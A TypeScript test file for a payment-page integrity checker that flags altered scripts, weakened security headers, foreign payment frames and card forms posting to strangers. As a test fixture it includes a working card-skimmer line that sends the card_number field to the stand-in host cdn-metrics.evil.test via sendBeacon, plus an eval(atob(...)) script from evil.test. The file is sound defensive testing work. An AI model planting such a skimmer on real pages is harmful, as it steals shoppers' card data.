import { type Finding, type ObservedScript, canonicalJson } from '@komainu/model';
import { describe, expect, test } from 'vitest';
import { judgeCheck } from '../src/index.ts';
import {
  approval,
  cardField,
  documents,
  failure,
  form,
  frame,
  frames,
  PAGE,
  PSP,
  type Parts,
  REF,
  REF2,
  recordingOf,
  SHOP,
  script,
  store,
} from './make.ts';

const EVIL = 'https://evil.test';
const judge = (parts: Parts, baseline: ReturnType<typeof approval> | null = approval(), kept = store()) =>
  judgeCheck({ recordings: [{ ref: REF, recording: recordingOf(parts) }], baseline, bodies: kept.bodies });
const of = (id: string, findings: readonly Finding[]) => findings.filter(({ detector }) => detector === id);

test('a page as approved is clean', () => {
  expect(judge({}).verdict).toEqual({
    kind: 'clean',
    reason: {
      en: 'Everything was observed and is as approved.',
      ja: 'すべて観測でき、承認された内容のとおりでした。',
    },
  });
});

describe('scripts', () => {
  const kept = store();
  const honest = 'export const pay = (form) => form.requestSubmit();\n';
  const skimmer = `${honest}const q=(n)=>document.querySelector('[name='+n+']').value;document.addEventListener('submit',()=>{navigator.sendBeacon('https://cdn-metrics.evil.test/c',btoa(q('card_number')))});\n`;
  const app = script(kept, `${SHOP}/app.js?v=1`, honest);
  const inline = script(kept, null, 'window.page={step:3}');
  const approved = approval({
    scripts: [
      { where: `${SHOP}/app.js`, hashes: [app.body], owner: null, justification: null },
      { where: `inline:${PAGE}`, hashes: [inline.body], owner: null, justification: null },
      { where: 'https://tags.test/t.js', hashes: [], owner: 'Ads', justification: 'daily' },
    ],
  });
  const run = (scripts: readonly ObservedScript[]) => judge({ scripts }, approved, kept);

  test('approved bodies, any query, and places approved with any body are quiet', () => {
    const tag = script(kept, 'https://tags.test/t.js', `today(${'1'.repeat(9)})`);
    expect(run([app, { ...app, url: `${SHOP}/app.js?v=2` }, inline, tag]).findings).toEqual([]);
  });

  test('an altered body is told in words', () => {
    const { verdict, findings } = run([script(kept, `${SHOP}/app.js`, skimmer)]);
    expect(verdict.kind).toBe('changed');
    const [found] = findings;
    expect(found).toMatchObject({ key: `changed-script:${SHOP}/app.js`, severity: 'critical' });
    expect(found?.detail.en).toMatch(/1 line added, 0 removed/);
    expect(found?.detail.en).toContain('cdn-metrics.evil.test');
    expect(found?.detail.en).toContain('names card fields');
    expect(found?.detail.ja).toContain('cdn-metrics.evil.test');
    expect(found?.references.map(({ role, blob }) => [role, blob])).toEqual([
      ['before', app.body],
      ['script', kept.put(skimmer)],
    ]);
  });

  test('without the approved body it is found all the same', () => {
    const { findings } = judgeCheck({
      recordings: [
        { ref: REF, recording: recordingOf({ scripts: [script(kept, `${SHOP}/app.js`, skimmer)] }) },
      ],
      baseline: approved,
      bodies: () => undefined,
    });
    expect(findings[0]).toMatchObject({ detector: 'changed-script', severity: 'high' });
  });

  test('a new address, new inline code, code in a blob worker', () => {
    const strangers = [
      script(kept, `${EVIL}/jquery.min.js`, 'eval(atob("YQ=="))'),
      script(kept, null, 'alert(1)'),
      script(kept, `blob:${SHOP}/7f3f2b52-9a0e-4a55-8d31-3385060828aa`, 'onmessage=0', {
        target: 'worker',
        kind: 'worker',
      }),
      script(kept, 'data:text/javascript,alert(2)', 'alert(2)'),
    ];
    const { findings, verdict } = run([app, inline, ...strangers]);
    expect(verdict.kind).toBe('changed');
    expect(of('unapproved-script', findings)).toHaveLength(4);
    expect(findings.find(({ key }) => key.includes('evil.test'))?.severity).toBe('high');
    expect(findings.filter(({ key }) => key.startsWith(`unapproved-script:inline:${PAGE}#`))).toHaveLength(3);
  });

  test('a hostile flood stays readable', () => {
    const flood = Array.from({ length: 3000 }, (_, i) =>
      script(kept, `${EVIL}/${i}-${'x'.repeat(500)}.js`, ';'),
    );
    const { findings } = run(flood);
    expect(findings.length).toBe(101);
    expect(findings.some(({ title }) => title.en.startsWith('2900 more'))).toBe(true);
    expect(canonicalJson(findings).length).toBeLessThan(500_000);
  });

  test('with nothing approved, one finding lists them all', () => {
    const { findings, verdict } = judge({ scripts: [app, inline] }, null, kept);
    expect(verdict.kind).toBe('changed');
    expect(of('unapproved-script', findings)).toHaveLength(1);
  });
});

describe('security-header', () => {
  const [, csp] = documents().headers[1] ?? ['', ''];
  const withHeaders = (change: (name: string, value: string) => string | null) => {
    const base = documents();
    const headers = base.headers.flatMap(([name, value]): readonly (readonly [string, string])[] => {
      const next = change(name, value);
      return next === null ? [] : [[name, next]];
    });
    return of('security-header', judge({ headers: [{ ...base, headers }] }).findings);
  };
  const set = (target: string, to: string | null) =>
    withHeaders((name, value) => (name === target ? to : value)).map(({ severity, title }) => [
      severity,
      title.en,
    ]);

  test('another nonce, other names and other headers are quiet', () => {
    expect(set('content-security-policy', csp.replace('nonce-abc', 'nonce-Zz9+/='))).toEqual([]);
    expect(set('content-type', 'text/html; charset=utf-8')).toEqual([]);
  });
  test.each([
    ['content-security-policy', null, 'high', 'no longer sent'],
    ['content-security-policy', `${csp} https://evil.test`, 'high', 'weakened'],
    ['content-security-policy', csp.replace("'nonce-abc'", "'unsafe-inline'"), 'high', 'weakened'],
    ['content-security-policy', csp.replace(/; connect-src.*/, ''), 'high', 'weakened'],
    ['content-security-policy', csp.replace(' https://pay.test', ''), 'low', 'changed'],
    ['x-frame-options', 'SAMEORIGIN', 'medium', 'weakened'],
    ['x-frame-options', 'ALLOW-FROM https://evil.test', 'medium', 'weakened'],
    ['referrer-policy', 'unsafe-url', 'medium', 'weakened'],
    ['permissions-policy', 'payment=*', 'medium', 'weakened'],
    ['permissions-policy', 'payment=(self), camera=()', 'low', 'changed'],
    ['strict-transport-security', 'max-age=300; includeSubDomains', 'medium', 'weakened'],
    ['strict-transport-security', 'max-age=31536000', 'medium', 'weakened'],
    ['strict-transport-security', 'max-age=63072000; includeSubDomains', 'low', 'changed'],
    ['x-content-type-options', null, 'medium', 'no longer sent'],
  ] as const)('%s -> %s', (name, to, severity, word) => {
    const found = set(name, to);
    expect(found).toHaveLength(1);
    expect(found[0]?.[0]).toBe(severity);
    expect(found[0]?.[1]).toContain(word);
  });
  test('a new one is told; a redirect and an unknown document are not compared', () => {
    const base = documents();
    const more = {
      ...base,
      headers: [...base.headers, ['cross-origin-opener-policy', 'same-origin'] as const],
    };
    expect(of('security-header', judge({ headers: [more] }).findings)[0]?.severity).toBe('low');
    const redirect = { ...base, status: 302, headers: [] };
    const other = { ...base, url: `${SHOP}/cart`, headers: [] };
    expect(of('security-header', judge({ headers: [other, redirect, base] }).findings)).toEqual([]);
  });
  test('broken values do not break it', () => {
    for (const value of ['', ';;;', "'", 'max-age=', 'a '.repeat(100_000)])
      for (const name of ['content-security-policy', 'strict-transport-security', 'permissions-policy'])
        expect(set(name, value)).toHaveLength(1);
  });
});

describe('payment-frame', () => {
  test("a card field of the shop's own page, or of a stranger, is tampered", () => {
    for (const origin of [SHOP, EVIL, 'null']) {
      const cardFields = [cardField('number', origin, { frameUrl: 'about:srcdoc' }), cardField('code')];
      const { verdict, findings } = judge({ cardFields });
      expect(verdict.kind).toBe('tampered');
      expect(findings[0]).toMatchObject({
        detector: 'payment-frame',
        severity: 'critical',
        grade: 'tampered',
      });
    }
  });
  test('one field more at the provider is changed', () => {
    expect(judge({ cardFields: [cardField('number'), cardField('holder')] }).verdict.kind).toBe('changed');
  });
  test('foreign frames: over a card field critical, visible high, hidden medium', () => {
    const severity = (more: Parameters<typeof frame>[1]) =>
      of('payment-frame', judge({ frames: [...frames, frame(`${EVIL}/f?x=1`, more)] }).findings)[0]?.severity;
    expect(severity({ rect: { x: 90, y: 90, width: 400, height: 300 } })).toBe('critical');
    expect(severity({})).toBe('high');
    expect(severity({ visible: false, rect: null })).toBe('medium');
  });
  test('approved frames with another query, ids in paths, and hidden blanks are quiet', () => {
    const approved = approval({ frames: [PAGE, `${PSP}/fields`, `${PSP}/3ds/{{id}}/method`] });
    const more = [
      frame(`${PSP}/fields?session=1`),
      frame(`${PSP}/3ds/7f3f2b52-9a0e-4a55-8d31-3385060828aa/method`),
      frame('about:blank', { visible: false }),
    ];
    expect(judge({ frames: [...frames, ...more] }, approved).findings).toEqual([]);
    expect(judge({ frames: [...frames, frame('about:blank'), frame('javascript:x')] }).verdict.kind).toBe(
      'changed',
    );
  });
});

describe('form-action', () => {
  const card = (action: string) =>
    form(action, {
      fields: [
        { name: 'n', type: 'tel', autocomplete: 'cc-number', label: '', visible: true, card: 'number' },
      ],
    });
  test('a card form that points at a stranger is tampered', () => {
    const { verdict, findings } = judge({ forms: [card(`${EVIL}/order`)] });
    expect(verdict.kind).toBe('tampered');
    expect(findings[0]).toMatchObject({ detector: 'form-action', severity: 'critical' });
  });
  test('others are changed; known ones quiet, with any query', () => {
    expect(judge({ forms: [form(`${EVIL}/q`)] }).verdict.kind).toBe('changed');
    expect(judge({ forms: [card(`${SHOP}/order2`)] }).verdict.kind).toBe('changed');
    expect(judge({ forms: [card(`${SHOP}/order?x=1#y`)] }).verdict.kind).toBe('clean');
    expect(judge({ forms: [] }).verdict.kind).toBe('clean');
    expect(judge({ forms: [form('http://[broken')] }).verdict.kind).toBe('changed');
  });
});

describe('what was not observed', () => {
  test('a step that failed is named; the page that was not reached too', () => {
    const { verdict, findings } = judge({
      failure: failure('step-not-found', { step: 4, detail: '#pay\u202e' }),
      headers: [documents({ url: `${SHOP}/cart` })],
      frames: [],
    });
    expect(verdict.kind).toBe('not-fully-observed');
    expect(findings.slice(0, 2).map(({ key }) => key)).toEqual([
      'journey-broken:step-not-found:step-5',
      'page-not-reached:page',
    ]);
    expect(verdict.reason.en).toContain('The visit stopped.');
  });
  test('when nothing at all was seen, the cause is told before its consequences', () => {
    const failed = ['scripts', 'wire', 'headers', 'frames', 'forms', 'cardFields', 'screenshots'] as const;
    const { verdict, findings } = judge({ failure: failure('unreachable'), failed });
    expect(verdict.kind).toBe('not-fully-observed');
    expect(findings[0]?.key).toBe('journey-broken:unreachable');
    expect(findings).toHaveLength(7);
  });
  test('a proving visit ends where the card was chosen, and is judged by what it saw up to there', () => {
    const halted = {
      visit: { purpose: 'proof' as const },
      cardFields: [],
      failure: failure('step-not-found', { step: 17 }),
    };
    expect(judge(halted).verdict.kind).toBe('clean');
    expect(judge({ ...halted, visit: {} }).verdict.kind).toBe('not-fully-observed');
    expect(judge({ ...halted, failure: failure('timeout') }).verdict.kind).toBe('not-fully-observed');
    const elsewhere = [documents(), documents({ url: `${SHOP}/cart` })];
    expect(judge({ ...halted, headers: elsewhere }).verdict.kind).toBe('not-fully-observed');
    const down = [documents(), documents({ status: 503 })];
    const keys = judge({ ...halted, headers: down }).findings.map(({ key }) => key);
    expect(keys).toEqual(['journey-broken:step-not-found:step-18', 'page-not-reached:page']);
  });
  test('a pop-up of the address proves nothing', () => {
    const popup = {
      visit: { purpose: 'proof' as const },
      cardFields: [],
      failure: failure('step-not-found', { step: 17 }),
      headers: [documents({ url: `${SHOP}/cart` }), documents()],
      frames: [frame(`${SHOP}/cart`, { parent: null })],
    };
    const keys = judge(popup).findings.map(({ key }) => key);
    expect(keys).toContain('journey-broken:step-not-found:step-18');
    expect(keys).toContain('page-not-reached:page');
  });
  test('an error page at the right address is not the payment page', () => {
    expect(judge({ headers: [documents({ status: 503 })], frames: [] }).verdict.kind).toBe(
      'not-fully-observed',
    );
  });
  test('a client-side router reaches it without asking the server', () => {
    const headers = [documents({ url: `${SHOP}/` })];
    expect(of('page-not-reached', judge({ headers }).findings)).toEqual([]);
  });
  test('nothing typed is nothing asked', () => {
    const untyped = { cardFields: [cardField('number', PSP, { typedAt: null })] };
    expect(judge(untyped).verdict.kind).toBe('not-fully-observed');
    expect(judge({ cardFields: [] }).verdict.kind).toBe('not-fully-observed');
    expect(judge({ cardFields: [] }, approval({ cardFields: [] })).verdict.kind).toBe('clean');
  });
  test.each(['scripts', 'wire', 'headers', 'frames', 'forms', 'cardFields'] as const)(
    '%s failed or with gaps is never clean',
    (name) => {
      const failed = judge({ failed: [name] });
      expect(failed.verdict.kind).toBe('not-fully-observed');
      expect(failed.findings[0]?.key).toBe(`engine:unobserved:${name}:target-lost`);
      const gaps = { [name]: [failure('limit'), failure('limit', { url: EVIL }), failure('target-lost')] };
      const judged = judge({ gaps });
      expect(judged.verdict.kind).toBe('not-fully-observed');
      expect(judged.findings.map(({ key }) => key)).toEqual([
        `engine:gap:${name}:limit`,
        `engine:gap:${name}:target-lost`,
      ]);
    },
  );
  test('tampered outranks unobserved, unobserved outranks changed', () => {
    expect(judge({ failed: ['scripts'], cardFields: [cardField('number', EVIL)] }).verdict.kind).toBe(
      'tampered',
    );
    expect(judge({ failed: ['scripts'], forms: [form(`${EVIL}/q`)] }).verdict.kind).toBe(
      'not-fully-observed',
    );
  });
  test('no recording, or the approval of another page, is never clean', () => {
    expect(judgeCheck({ recordings: [], baseline: approval(), bodies: () => undefined }).verdict.kind).toBe(
      'not-fully-observed',
    );
    const other = approval();
    const baseline = { ...other, baseline: { ...other.baseline, page: 'cart' as never } };
    expect(judge({}, baseline).verdict.kind).toBe('not-fully-observed');
  });
  test('a detector that throws is named and nothing is clean', () => {
    const kept = store();
    const { verdict, findings } = judgeCheck({
      recordings: [{ ref: REF, recording: recordingOf({ scripts: [script(kept, `${EVIL}/x.js`, 'x')] }) }],
      baseline: approval(),
      bodies: () => {
        throw new RangeError('disk on fire');
      },
    });
    expect(verdict.kind).toBe('not-fully-observed');
    expect(findings.map(({ key }) => key)).toContain('engine:failed:unapproved-script');
    expect(canonicalJson(findings)).not.toContain('.ts:');
  });
});

test('two visits that see the same wrong see one wrong, and say in which recordings', () => {
  const parts = { forms: [form(`${EVIL}/q`)] };
  const { findings, over } = judgeCheck({
    recordings: [
      { ref: REF, recording: recordingOf(parts) },
      { ref: REF2, recording: recordingOf(parts) },
    ],
    baseline: approval(),
    bodies: () => undefined,
  });
  expect(over).toEqual([REF, REF2]);
  expect(findings).toHaveLength(1);
  expect(findings[0]?.references.map(({ role, blob }) => [role, blob])).toEqual([
    ['other', REF],
    ['form', null],
    ['other', REF2],
    ['form', null],
  ]);
});
